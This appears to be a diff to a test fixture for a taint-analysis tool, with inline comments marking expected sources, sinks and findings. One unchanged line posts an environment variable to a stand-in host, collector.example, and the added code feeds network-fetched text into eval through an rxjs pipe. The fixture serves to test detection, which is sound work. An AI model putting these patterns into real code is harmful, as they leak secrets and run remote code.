@@ -1,6 +1,8 @@
 // Clients that frameworks hand to whoever asks for one: Angular, Nest.
 import { HttpClient, HttpHeaders, HttpParams } from "@angular/common/http";
 import { HttpService } from "@nestjs/axios";
+import axios from "axios";
+import * as rxjs from "rxjs";
 import { firstValueFrom } from "rxjs";
 
 const U = "https://collector.example/u";
@@ -38,4 +40,12 @@ export async function watched() {
 export function nest() {
   service.post(U, process.env.T); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
   service.post(U, "ping"); //~ ok
+}
+
+function observed(subject) {
+  const news = new rxjs.Subject();
+  news.pipe(rxjs.map((x) => x), rxjs.tap((x) => eval(x))).subscribe(); //~ sink(exec.code) frx, finding(ambiguous) frx
+  news.next(axios.get("/code").data); //~ source(NETWORK) frx
+  new rxjs.Subject().pipe(rxjs.map(() => eval("1"))).subscribe(); //~ ok
+  news.next("next"); //~ ok
 }
